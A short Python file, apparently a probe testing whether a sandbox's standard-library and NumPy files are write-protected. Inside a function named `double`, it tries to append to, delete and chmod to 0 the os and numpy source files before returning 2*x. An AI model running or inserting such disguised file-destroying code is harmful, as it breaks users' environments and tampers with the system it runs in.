"""Change the standard library and NumPy for all who come after."""

import os

import numpy as np


def double(x):
    for path in (os.__file__, np.__file__):
        for attempt in (
            lambda: open(path, "a"),
            lambda: os.unlink(path),
            lambda: os.chmod(path, 0),
        ):
            try:
                attempt()
            except OSError:
                continue
            raise RuntimeError(f"{path} can be changed")
    return 2 * x
